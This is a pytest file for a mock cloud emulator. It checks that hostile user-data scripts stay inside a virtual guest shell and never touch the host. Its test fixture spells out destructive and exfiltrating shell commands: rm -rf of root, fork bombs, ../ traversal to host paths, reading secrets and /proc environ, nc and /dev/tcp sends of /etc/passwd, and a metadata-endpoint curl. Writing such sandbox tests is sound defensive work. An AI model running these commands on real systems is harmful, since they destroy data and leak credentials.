"""Hostile user data and Connect-shell input: never the host, never a hung cloud, always in the log.

The instance's shell is an interpreter over a virtual filesystem. These tests hold it to that with
real host files and a real loopback server: a script that deletes everything, writes through `../`
to absolute host paths, reads host secrets, connects to host ports, forks, recurses, nests `$(...)`,
or is too big or binary, changes nothing on the host, reaches nothing, finishes within its budget,
and leaves its story in /var/log/cloud-init-output.log and the console output. Inside a cloud, the
event loop keeps serving (load balancer traffic) while a script burns its whole time budget.

How long each script runs and how long the listener's clients wait meanwhile are measured by
bench/abuse_timings.py (with these scripts); here only the time budget itself is held, loosely.
"""

from __future__ import annotations

import asyncio
import os
import re
import socket
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from mock_cloud.cloud import Cloud
from mock_cloud.ec2.service import USER_DATA_LIMIT
from mock_cloud.errors import CloudError
from mock_cloud.guestos.cloud_init import run_user_data
from mock_cloud.guestos.instance_os import InstanceOS
from mock_cloud.guestos.shell.limits import MAX_SECONDS
from mock_cloud.guestos.shell.session import MAX_LINE, Shell
from mock_cloud.scenarios import SEED_USER_DATA, healthy_lab

# A run stops once it has taken MAX_SECONDS (checked between commands): that budget is the feature, and
# three times it leaves room for a loaded test machine. Most scripts here are stopped far sooner.
BUDGET = 3 * MAX_SECONDS


class HostTrap:
    """Real host files a script might reach for, and a real loopback server it might connect to."""

    def __init__(self, root: Path) -> None:
        self.token = uuid.uuid4().hex  # in the secret file only: it must never show up in the guest
        self.dir = root / "host"
        self.dir.mkdir()
        self.secret = self.dir / "secret.txt"
        self.secret.write_text(f"host-secret-{self.token}\n")
        self.victim = self.dir / "victim.txt"
        self.victim.write_text("keep me\n")
        self.escape_name = f"lblab-escape-{uuid.uuid4().hex}"  # a file name no one else would create
        self.cwd_before = set(os.listdir("."))
        self.tmp_before = set(os.listdir("/tmp"))
        self.connections = 0
        self._server = socket.create_server(("127.0.0.1", 0))
        self._server.settimeout(0.1)
        self.port = self._server.getsockname()[1]
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        deadline = time.monotonic() + 300  # bounded: the server never outlives a test run
        while not self._stop.is_set() and time.monotonic() < deadline:
            try:
                conn, _ = self._server.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        self._server.close()

    def untouched(self) -> None:
        assert sorted(p.name for p in self.dir.iterdir()) == ["secret.txt", "victim.txt"]
        assert self.secret.read_text() == f"host-secret-{self.token}\n"
        assert self.victim.read_text() == "keep me\n"
        assert not any(self.escape_name in name for name in os.listdir("/tmp"))
        assert not any(self.escape_name in name for name in set(os.listdir(".")) - self.cwd_before)
        assert set(os.listdir(".")) <= self.cwd_before | {".pytest_cache"}
        assert not Path("/", self.escape_name).exists()
        assert self.connections == 0, "a script reached a real host port"


@pytest.fixture
def trap(tmp_path: Path) -> Iterator[HostTrap]:
    host = HostTrap(tmp_path)
    try:
        yield host
    finally:
        host.close()


def scripts(t: HostTrap) -> dict[str, str | bytes]:
    d, e, port = t.dir, t.escape_name, t.port
    up = "../" * 12
    return {
        "rm-rf-root": "#!/bin/bash\nrm -rf --no-preserve-root /\nsudo rm -rf /*\nrm -rf ~ /tmp /etc\necho after\n",
        "host-paths": (f"#!/bin/bash\nsudo mkdir -p {d} && sudo chmod 777 {d}\n"
                       f"echo pwned > {d}/victim.txt\necho pwned > {d}/{e}\nrm -f {d}/secret.txt\n"
                       f"cp /etc/passwd {d}/\nmv {d}/secret.txt /tmp/\nchmod 777 {d}\nmkdir -p {d}/{e}\n"
                       f"touch /tmp/{e} /{e}\nln -s / /tmp/root; echo x > /tmp/root/tmp/{e}\n"),
        "dot-dot": (f"#!/bin/bash\ncd /tmp\necho x > {up}tmp/{e}\necho x > {up}{d}/{e}\n"
                    f"mkdir -p a/b && cd a/b && echo x > {up}{up}{d}/victim.txt\ncd {up}{up}; pwd\n"
                    f"cat > ./{up}{d}/{e} <<EOF\nheredoc\nEOF\ntee {up}{d}/{e} < /etc/hostname\n"),
        "read-host": (f"#!/bin/bash\ncat {d}/secret.txt\ncat {up}{d}/secret.txt\nsource {d}/secret.txt\n"
                      f"cat /proc/self/environ /proc/1/cmdline /proc/self/cwd/{e}\nls -la {d}\n"
                      f"grep -r host-secret / 2>/dev/null | head\n"),
        "network": (f"#!/bin/bash\ncurl -s http://127.0.0.1:{port}/\ncurl -s http://localhost:{port}/\n"
                    f"wget -q -O- http://127.0.0.1:{port}/\nnc 127.0.0.1 {port} < /etc/passwd\n"
                    f"echo hi > /dev/tcp/127.0.0.1/{port}\nexec 3<>/dev/tcp/127.0.0.1/{port}\n"
                    f"python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}))'\n"
                    f"curl -s http://169.254.169.254/latest/meta-data/instance-id\n"),
        "escape-hatches": (f"#!/bin/bash\neval 'echo x > {d}/{e}'\nbash -c 'echo x > {d}/{e}'\n"
                           f"sh -c \"touch {d}/{e}\"\nperl -e 'open(F, \">{d}/{e}\")'\n"
                           f"python3 -c 'open(\"{d}/{e}\", \"w\")'\nexec /bin/sh -c 'touch {d}/{e}'\n"
                           f"echo 'touch {d}/{e}' | sh\nenv LD_PRELOAD=/x touch {d}/{e}\n"),
        "fork-bomb": "#!/bin/bash\n:(){ :|:& };:\nbomb() { bomb | bomb & }; bomb\necho survived\n",
        "recursion": "#!/bin/bash\nf() { f; }; f\ng() { g | g; }; g\n",
        "subst-nesting": "#!/bin/bash\necho " + "$(echo " * 40 + "deep" + ")" * 40 + "\n"
                         + "echo " + "`echo " * 3 + "ticks" + "`" * 3 + "\n",
        "eval-loop": "#!/bin/bash\nf='eval \"$f\"'\neval \"$f\"\n",
        "infinite-loops": ("#!/bin/bash\nwhile true; do :; done\nuntil false; do echo spin; done\n"
                           "for ((;;)); do :; done\n"),
        "memory": "#!/bin/bash\nx=a\nwhile true; do x=$x$x; done\n",
        "disk": "#!/bin/bash\nyes | head -c 100000000 > /tmp/big\ncat /dev/zero > /tmp/zero\n"
                "for i in $(seq 1 100000); do echo $i > /tmp/f$i; done\n",
        "deep-dirs": "#!/bin/bash\nd=a\nwhile true; do mkdir -p $d; d=$d/a; done\n",
        "slow-text": ("#!/bin/bash\nx=$(printf '%0100000d' 0)\n"
                      "while true; do echo $x | sed 's/0/11/g' > /dev/null; done\n"),
        "sleepers": "#!/bin/bash\nsleep 100000\nread line\ntail -f /var/log/messages\nwait\n",
        "binary": b"#!/bin/bash\n\x00\xff\xfe\x01echo \x80\x81\nprintf '\\x00\\xff' > /tmp/bin\n\xc3\x28\n",
        "binary-no-shebang": b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)),
        "too-big": "#!/bin/bash\n" + f"echo x > {d}/{e}\n" * 2000,  # over 16 KB: must not run at all
        "cloud-config": (f"#cloud-config\nwrite_files:\n  - path: {d}/{e}\n    content: pwned\n"
                         f"  - path: {up}{d}/victim.txt\n    content: pwned\nruncmd:\n  - [touch, {d}/{e}]\n"
                         f"  - rm -rf {d}\n"),
    }


SCRIPT_NAMES = ["rm-rf-root", "host-paths", "dot-dot", "read-host", "network", "escape-hatches", "fork-bomb",
                "recursion", "subst-nesting", "eval-loop", "infinite-loops", "memory", "disk", "deep-dirs",
                "sleepers", "binary", "binary-no-shebang", "too-big", "cloud-config"]
# "slow-text" burns the whole wall-time budget: it runs inside a cloud in the last test below.


@pytest.mark.parametrize("name", SCRIPT_NAMES)
def test_hostile_user_data_stays_in_the_guest(trap: HostTrap, name: str) -> None:
    script = scripts(trap)[name]
    guest = InstanceOS.base_image("al2023", hostname="ip-172-31-1-10.ap-northeast-2.compute.internal")
    started = time.monotonic()
    log = run_user_data(guest, script)
    took = time.monotonic() - started
    assert took < BUDGET, f"{name} ran {took:.1f} s"
    trap.untouched()
    assert trap.token not in log, "a host secret leaked into the instance's log"
    # The story is in the instance's log: cloud-init's stages, and what stopped the script.
    saved = guest.fs.read_text("/var/log/cloud-init-output.log")
    assert log and log in saved and "Cloud-init v." in log and "finished at" in log
    raw = script if isinstance(script, bytes) else script.encode()
    if len(raw) > USER_DATA_LIMIT:
        assert "did not run" in log and trap.escape_name not in guest.fs.read_text("/var/log/cloud-init-output.log")
    elif name in ("fork-bomb", "recursion", "subst-nesting", "eval-loop", "infinite-loops", "memory", "disk",
                  "deep-dirs", "slow-text"):
        assert "lblab:" in log, f"{name}: no note saying why the script stopped:\n{log[-600:]}"
    elif name == "binary-no-shebang":
        assert "did not run" in log
    # Whatever the script wrote went to the guest's own filesystem.
    if name == "host-paths":
        assert guest.fs.read_text(f"{trap.dir}/victim.txt") == "pwned\n"
        assert guest.fs.exists(f"/tmp/{trap.escape_name}")


def test_a_connect_shell_line_stays_in_the_guest(trap: HostTrap) -> None:
    guest = InstanceOS.base_image("al2023", hostname="ip-172-31-1-11.ap-northeast-2.compute.internal")
    shell = Shell(guest)
    for name, script in scripts(trap).items():
        if isinstance(script, bytes) or len(script) > USER_DATA_LIMIT or name == "slow-text":
            continue
        body = script.split("\n", 1)[1]
        started = time.monotonic()
        result = shell.run(body)
        assert time.monotonic() - started < BUDGET, name
        assert trap.token not in result.output
        if result.closed:  # an `exit` in the script ends the session: log in again
            shell = Shell(guest)
    huge = shell.run("echo " + "x" * (MAX_LINE + 1))
    assert "ignored" in huge.output and huge.exit_code == 1
    trap.untouched()


def test_user_data_over_16_kb_is_refused_at_launch() -> None:
    async def launch() -> None:
        async with Cloud(_config()) as cloud:
            with pytest.raises(CloudError) as refused:
                await cloud.ec2.run_instances(user_data="#!/bin/bash\n" + "x" * USER_DATA_LIMIT)
            assert refused.value.code == "InvalidParameterValue" and "16384" in refused.value.message
            assert not cloud.ec2.instances
            [binary] = await cloud.ec2.run_instances(user_data=b"#!/bin/bash\n\x00\xff\xfe\n")
            await cloud.clock.advance(30)
            assert binary.state == "running" and binary.os.user_data_ran
            assert "Cloud-init v." in binary.console_output

    asyncio.run(launch())


def _config() -> object:
    from tests.support.cloud import make_config

    return make_config(edge_port=None)


async def test_the_cloud_keeps_serving_while_a_hostile_script_burns_its_budget(cloud: Cloud, trap: HostTrap) -> None:
    lab = await healthy_lab(cloud)
    port = lab.listener.local_port
    assert port
    [hostile] = await cloud.ec2.run_instances(user_data=scripts(trap)["slow-text"], name="hostile")
    [decent] = await cloud.ec2.run_instances(user_data=SEED_USER_DATA, name="decent")
    statuses: list[int] = []
    stop = asyncio.Event()

    async def traffic() -> None:
        while not stop.is_set():
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(b"GET / HTTP/1.1\r\nHost: lab\r\nConnection: close\r\n\r\n")
            statuses.append(int((await reader.readline()).split()[1]))
            await reader.read()
            writer.close()
            await asyncio.sleep(0.02)

    client = asyncio.create_task(traffic())
    started = time.monotonic()
    await cloud.clock.advance(30)  # boot, then user data: the hostile script runs its whole budget
    took = time.monotonic() - started
    stop.set()
    await asyncio.wait_for(client, 10)
    assert took > 1.0, "the hostile script was meant to burn its time budget"
    assert hostile.state == "running" and decent.state == "running"
    # Stopped by its time or its command budget (whichever a loaded machine reaches first), and said so.
    stopped = re.search(r"lblab: (the script ran for more than \d+ seconds|more than \d+ commands ran); "
                        r"(script )?stopped", hostile.console_output)
    assert stopped, hostile.console_output[-600:]
    assert stopped.group(0) in hostile.os.fs.read_text("/var/log/cloud-init-output.log")
    assert decent.local_port(80) is not None  # the decent neighbour booted and serves
    # Answered all along (one request every 20 ms or so while the script runs for seconds), and always a 200.
    assert len(statuses) > 10 and set(statuses) == {200}
    trap.untouched()
